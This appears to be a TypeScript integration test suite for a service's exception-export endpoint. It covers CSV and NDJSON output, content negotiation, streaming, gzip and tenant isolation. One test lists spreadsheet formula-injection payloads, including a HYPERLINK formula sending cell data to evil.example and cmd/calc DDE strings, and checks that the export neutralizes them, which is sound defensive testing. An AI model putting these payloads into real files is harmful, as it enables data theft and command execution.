import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { runInNewContext } from 'node:vm';
import { gunzipSync } from 'node:zlib';
import { setFlagsFromString } from 'node:v8';
import { Reads } from '@redress/domain';
import { startTestApp, type Json, type Person, type TestApp } from '../support/app';
import { writeExceptions } from '../support/exception-rows';
import { ownerOf, type Owner } from '../support/owner';

let service: TestApp;
let owner: Owner;
let base: string;

beforeAll(async () => {
  service = await startTestApp({ DATABASE_POOL: '3' });
  owner = ownerOf(service.database.url);
  await service.app.listen(0, '127.0.0.1');
  base = `http://127.0.0.1:${(service.app.getHttpServer().address() as AddressInfo).port}`;
}, 60_000);
afterEach(() => jest.restoreAllMocks());
afterAll(async () => {
  await owner.end();
  await service.close();
});

const header =
  'id,version,status,severity,transactionId,exceptionReason,amount,currency,source,occurredAt,dueAt,' +
  'assignee,assigneeWas,resolution,reason,' +
  'externalSystem,externalIssueId,resolutionType,resolutionReason,resolutionNotes,createdAt,updatedAt';
/** Spreadsheets take a file for UTF-8 where it begins so. */
const mark = '\ufeff';
const columns = header.split(',');

const exportOf = (person: Person, query = '', accept?: string) =>
  person.get(`/v1/exceptions/export?${query}`, { headers: { ...(accept && { accept }) } });

/** Records of RFC 4180, read by a grammar of its own. */
function recordsIn(csv: string): string[][] {
  const records: string[][] = [[]];
  for (const [, quoted, plain = '', end] of csv.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$(?!\n))/g,
  )) {
    if (end === '' && records.at(-1)!.length === 0) break;
    records.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') records.push([]);
  }
  return records.slice(0, -1);
}

const rowsIn = (csv: string): Record<string, string>[] =>
  recordsIn(csv)
    .slice(1)
    .map((cells) => Object.fromEntries(cells.map((cell, i) => [columns[i]!, cell])));

const linesIn = (ndjson: string): Json[] =>
  ndjson
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line));

describe('an export', () => {
  it('as CSV has a header, and a line for each exception', async () => {
    const ana = service.person();
    const raised = await ana.raise({
      reason: 'Fee, "above"\ntolerance',
      amount: '-12.50',
      currency: 'BRL',
      source: 'bank:atlântico',
      occurredAt: '2026-01-31T10:00:00Z',
    });
    await ana.post(`/v1/exceptions/${raised.id}/assign`, { assignee: 'bo@example.com' });
    await ana.post(`/v1/exceptions/${raised.id}/force-match`, {
      overrideReason: 'BUSINESS_DECISION',
      notes: 'Seen\r\nby finance',
    });
    const { body: now } = await ana.get(`/v1/exceptions/${raised.id}`);
    const { status, headers, text } = await exportOf(ana);
    expect(status).toBe(200);
    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(headers['content-disposition']).toMatch(
      /^attachment; filename="exceptions-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(text.startsWith(`${mark}${header}\r\n`)).toBe(true);
    expect(recordsIn(text).map((cells) => cells.length)).toEqual([columns.length, columns.length]);
    expect(rowsIn(text)).toEqual([
      {
        id: now.id,
        version: '3',
        status: 'RESOLVED',
        severity: now.severity,
        transactionId: now.transactionId,
        exceptionReason: 'Fee, "above"\ntolerance',
        amount: '-12.50',
        currency: 'BRL',
        source: 'bank:atlântico',
        occurredAt: '2026-01-31T10:00:00.000Z',
        dueAt: now.dueAt,
        createdAt: now.createdAt,
        updatedAt: now.updatedAt,
        assignee: 'bo@example.com',
        assigneeWas: 'bo@example.com',
        externalSystem: '',
        externalIssueId: '',
        resolutionType: 'FORCE_MATCH',
        resolutionReason: 'BUSINESS_DECISION',
        resolutionNotes: 'Seen\r\nby finance',
        resolution: '',
        reason: '',
      },
    ]);
  });

  it('as NDJSON has the exceptions as the list shows them', async () => {
    const ana = service.person();
    for (let i = 0; i < 3; i++)
      await ana.raise({ metadata: { batch: `=${i}` }, differences: [{ field: 'amount', expected: '1' }] });
    const { status, headers, text } = await exportOf(ana, 'format=ndjson&sort_order=asc');
    expect([status, headers['content-type']]).toEqual([200, 'application/x-ndjson; charset=utf-8']);
    expect(headers['content-disposition']).toContain('.ndjson"');
    expect(linesIn(text)).toEqual((await ana.get('/v1/exceptions?sort_order=asc')).body.items);
  });

  it.each([
    ['', undefined, 'csv'],
    ['', '*/*', 'csv'],
    ['', 'text/csv', 'csv'],
    ['', 'application/x-ndjson', 'ndjson'],
    ['', 'Application/X-NDJSON, */*;q=0.1', 'ndjson'],
    ['', 'application/x-ndjson;q=0.5, text/csv', 'csv'],
    ['', 'text/csv;q=0.5, application/x-ndjson; q=0.9', 'ndjson'],
    ['', 'application/x-ndjson;q=0', 'csv'],
    ['', 'application/json', 'csv'],
    ['format=csv', 'application/x-ndjson', 'csv'],
    ['format=ndjson', 'text/csv', 'ndjson'],
  ])('asked for with "%s" and Accept: %s is %s', async (query, accept, format) => {
    const { headers } = await exportOf(service.person(), query, accept);
    expect(headers['content-disposition']).toContain(`.${format}"`);
  });

  it('of nothing is a header, or nothing at all', async () => {
    const nobody = service.person();
    expect((await exportOf(nobody)).text).toBe(`${mark}${header}\r\n`);
    expect((await exportOf(nobody, 'format=ndjson')).text).toBe('');
  });

  it('holds no text that a spreadsheet would run', async () => {
    const ana = service.person();
    const texts: [raised: string, exported: string][] = [
      ['=HYPERLINK("http://evil.example/?"&A1)', `'=HYPERLINK("http://evil.example/?"&A1)`],
      ['+1+cmd|/C calc', `'+1+cmd|/C calc`],
      ['-2+3', `'-2+3`],
      ['- see notes', `'- see notes`],
      ['@SUM(A1)', `'@SUM(A1)`],
      ['\t=1+1', `'\t'=1+1`],
      ['\r=1+1', `'\r'=1+1`],
      [`x;=cmd|'/c calc'!A0;y`, `x;'=cmd|'/c calc'!A0;y`],
      ['a\n@SUM(A1)\t=1', `a\n'@SUM(A1)\t'=1`],
      [' =1+1', `' =1+1`],
      ['＝1+1', `'＝1+1`],
      ['＠SUM(A1)', `'＠SUM(A1)`],
      [`'=1+1`, `''=1+1`],
      [`don't`, `don't`],
      [`'tis`, `'tis`],
      ['-12.50', '-12.50'],
      ['+47', '+47'],
      ['a=b', 'a=b'],
    ];
    for (const [reason] of texts) await ana.raise({ reason });
    const { text } = await exportOf(ana, 'sort_by=id&sort_order=asc');
    expect(rowsIn(text).map(({ exceptionReason }) => exceptionReason)).toEqual(
      texts.map(([, exported]) => exported),
    );
    const { text: lines } = await exportOf(ana, 'format=ndjson&sort_by=id&sort_order=asc');
    expect(linesIn(lines).map(({ reason }) => reason)).toEqual(texts.map(([raised]) => raised));
  });

  it('takes the filters and orders of the list', async () => {
    const ana = service.person();
    const made = await writeExceptions(
      owner,
      Array.from({ length: 1100 }, (_, i) => ({
        tenant_id: ana.tenant,
        severity: i % 2 ? 'HIGH' : 'LOW',
        due_at: new Date(Date.UTC(2026, 0, 1) + ((i * 7919) % 100) * 3_600_000).toISOString(),
      })),
    );
    for (const query of [
      'severity=HIGH',
      'due_from=2026-01-02',
      'q=mismatch',
      'sort_by=due_at&sort_order=asc',
      '',
    ]) {
      const listed: string[] = [];
      for (let cursor = ''; ;) {
        const { body } = await ana.get(`/v1/exceptions?limit=200&${query}${cursor && `&cursor=${cursor}`}`);
        listed.push(...body.items.map(({ id }: { id: string }) => id));
        cursor = body.nextCursor ?? '';
        if (!cursor) break;
      }
      expect(listed.length).toBeGreaterThan(500);
      const { text } = await exportOf(ana, query);
      expect(rowsIn(text).map(({ id }) => id)).toEqual(listed);
    }
    expect(rowsIn((await exportOf(ana)).text)).toHaveLength(made.length);
  }, 30_000);

  it('has each exception once while others are being raised', async () => {
    const ana = service.person();
    const made = await writeExceptions(owner, Array(1600).fill({ tenant_id: ana.tenant }));
    const reads = service.app.get(Reads);
    const read = reads.exceptions.bind(reads);
    jest.spyOn(reads, 'exceptions').mockImplementation(async (...asked) => {
      const page = await read(...asked);
      await ana.raise();
      return page;
    });
    const ids = rowsIn((await exportOf(ana)).text).map(({ id }) => id);
    expect([...ids].sort()).toEqual(made.map(({ id }) => id).sort());
  });

  it('holds nothing of another tenant', async () => {
    await service.person().raise();
    expect((await exportOf(service.person())).text).toBe(`${mark}${header}\r\n`);
  });

  it.each([
    ['limit=10', 'limit'],
    ['cursor=x', 'cursor'],
    ['colour=red', 'colour'],
    ['format=xlsx', 'format'],
    ['format=csv&format=csv', 'format'],
    ['status=CLOSED', 'status'],
    ['sort_by=reason', 'sort_by'],
  ])('refuses %s by name', async (query, name) => {
    const { status, body } = await exportOf(service.person(), query, 'text/csv');
    expect([status, body.title, Object.keys(body.details.fields)]).toEqual([400, 'invalid_request', [name]]);
  });

  it('needs the scope to see exceptions', async () => {
    expect((await exportOf(service.person({ scopes: ['exception:raise'] }))).status).toBe(403);
    expect((await service.send('GET', '/v1/exceptions/export')).status).toBe(401);
  });

  it('that cannot begin is told like any failure', async () => {
    jest.spyOn(service.app.get(Reads), 'exceptions').mockRejectedValue(new Error('Connection terminated'));
    const { status, headers, body } = await exportOf(service.person(), '', 'text/csv');
    expect([status, headers['content-type'], body.title]).toEqual([
      503,
      'application/json; charset=utf-8',
      'service_unavailable',
    ]);
    expect(headers['content-disposition']).toBeUndefined();
  });

  it('asked for by HEAD has headers and no body', async () => {
    const ana = service.person();
    await ana.raise();
    const { statusCode, headers, payload } = await service.app.inject({
      method: 'HEAD',
      url: '/v1/exceptions/export',
      headers: { authorization: `Bearer ${ana.token}` },
    });
    expect([statusCode, headers['content-type'], payload]).toEqual([200, 'text/csv; charset=utf-8', '']);
  });
});

describe('a long export', () => {
  const count = 30_000;
  let ana: Person;

  beforeAll(async () => {
    ana = service.person();
    await owner.rows(
      `INSERT INTO exception (tenant_id, id, version, status, transaction_id, reason, severity, due_at, resolution_notes,
         seen_count, last_seen_at, created_at, updated_at, history_seq, history_head)
       SELECT $1, gen_random_uuid(), 1, 'RESOLVED', gen_random_uuid(), 'Amount mismatch detected', 'LOW', now(),
         repeat('x', 1000), 1, now(), now() - n * interval '1 s', now(), 0, '\\x00' FROM generate_series(1, $2::int) n`,
      [ana.tenant, count],
    );
    await owner.rows('ANALYZE exception');
  }, 60_000);

  /** The answer over a real connection, once its head is there. */
  const open = (query = '', encoding?: string) =>
    new Promise<{ request: http.ClientRequest; response: http.IncomingMessage }>((resolve, reject) => {
      const request = http.get(
        `${base}/v1/exceptions/export?${query}`,
        {
          headers: {
            authorization: `Bearer ${ana.token}`,
            ...(encoding !== undefined && { 'accept-encoding': encoding }),
          },
          agent: false,
        },
        (response) => resolve({ request, response }),
      );
      request.on('error', reject);
      requests.push(request);
    });
  const requests: http.ClientRequest[] = [];
  // What a test gave up on must not keep the service from closing.
  afterEach(() => {
    for (const request of requests.splice(0)) request.destroy();
  });

  const watched = () => jest.spyOn(service.app.get(Reads), 'exceptions');
  const busy = async (): Promise<number> => {
    const [row] = await owner.rows(
      `SELECT count(*)::int AS busy FROM pg_stat_activity
       WHERE datname = current_database() AND pid <> pg_backend_pid() AND state <> 'idle'`,
    );
    return row!['busy'] as number;
  };
  const moment = () => new Promise((resolve) => setTimeout(resolve, 300));
  /** Once nothing more is asked of the database, how often it was asked: by a whole export, sixty times. */
  async function askedInAll(reads: jest.SpyInstance): Promise<number> {
    for (let asked = -1; asked !== reads.mock.calls.length || (await busy()) > 0; await moment())
      asked = reads.mock.calls.length;
    return reads.mock.calls.length;
  }

  setFlagsFromString('--expose-gc');
  const collect = runInNewContext('gc') as () => void;
  const held = () => {
    collect();
    const { heapUsed, external } = process.memoryUsage();
    return heapUsed + external;
  };

  /** The most memory that one export takes, in bytes. */
  async function peakOf(format: string): Promise<number> {
    const before = held();
    const { response } = await open(`format=${format}`);
    let [bytes, lines, most, nextLook] = [0, 0, 0, 0];
    for await (const chunk of response as AsyncIterable<Buffer>) {
      bytes += chunk.length;
      for (const byte of chunk) if (byte === 10) lines++;
      if (bytes < nextLook) continue;
      nextLook += 4_000_000;
      most = Math.max(most, held() - before);
    }
    expect(lines).toBe(format === 'csv' ? count + 1 : count);
    expect(bytes).toBeGreaterThan(35_000_000);
    return most;
  }

  it.each(['csv', 'ndjson'])(
    'of %s is complete, and never in memory as a whole',
    async (format) => {
      // What else this process does takes memory as well: an export that is held as a whole shows it every time.
      let least = await peakOf(format);
      for (let repeated = 0; repeated < 3 && least >= 12_000_000; repeated++)
        least = Math.min(least, await peakOf(format));
      expect(least).toBeLessThan(12_000_000);
    },
    60_000,
  );

  it('waits for who reads it, and holds no connection meanwhile', async () => {
    const reads = watched();
    await open();
    // What the connection itself buffers, and no more.
    expect(await askedInAll(reads)).toBeLessThan(20);
  }, 30_000);

  it('is the same compressed, for who takes gzip', async () => {
    const plain = await (await open('format=ndjson&sort_by=id')).response.toArray();
    const { response } = await open('format=ndjson&sort_by=id', 'br;q=1, gzip;q=0.5');
    const { vary, 'content-encoding': encoding, 'content-type': type } = response.headers;
    expect([vary, encoding, type]).toEqual([
      'accept, accept-encoding',
      'gzip',
      'application/x-ndjson; charset=utf-8',
    ]);
    const compressed = Buffer.concat(await response.toArray());
    const text = Buffer.concat(plain);
    expect(gunzipSync(compressed).equals(text)).toBe(true);
    expect(compressed.length).toBeLessThan(text.length / 5);
    for (const refused of ['br', 'gzip;q=0', 'identity, *;q=0']) {
      const { response: answer, request } = await open('', refused);
      expect(answer.headers['content-encoding']).toBeUndefined();
      request.destroy();
    }
  }, 60_000);

  it.each([undefined, 'gzip'])(
    'ends when the client disconnects, and leaves its database sessions to others: %s',
    async (encoding) => {
      const reads = watched();
      for (let i = 0; i < 5; i++) {
        const { request, response } = await open('', encoding);
        await new Promise((resolve) => response.once('data', resolve));
        request.destroy();
      }
      expect(await askedInAll(reads)).toBeLessThan(5 * 20);
      const others = await Promise.all(Array.from({ length: 6 }, () => ana.get('/v1/exceptions?limit=1')));
      expect(others.map(({ status }) => status)).toEqual(Array(6).fill(200));
    },
    30_000,
  );

  it.each([undefined, 'gzip'])(
    'that fails on the way breaks the connection, so that no client takes it for complete: %s',
    async (encoding) => {
      const reads = service.app.get(Reads);
      const read = reads.exceptions.bind(reads);
      let asked = 0;
      jest
        .spyOn(reads, 'exceptions')
        .mockImplementation((...page) =>
          ++asked > 3 ? Promise.reject(new Error('Connection terminated')) : read(...page),
        );
      const { response } = await open('', encoding);
      expect(response.statusCode).toBe(200);
      const received = async () => {
        let text = '';
        for await (const chunk of response) text += String(chunk);
        return text;
      };
      await expect(received()).rejects.toMatchObject({ code: 'ECONNRESET' });
      expect(response.complete).toBe(false);
      expect(asked).toBe(4);
    },
  );

  it('survives the loss of idle connections', async () => {
    const reads = watched();
    const { response } = await open();
    await askedInAll(reads);
    await owner.rows(
      'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid()',
    );
    await moment();
    let lines = 0;
    for await (const chunk of response as AsyncIterable<Buffer>)
      for (const byte of chunk) if (byte === 10) lines++;
    expect(lines).toBe(count + 1);
  }, 30_000);
});
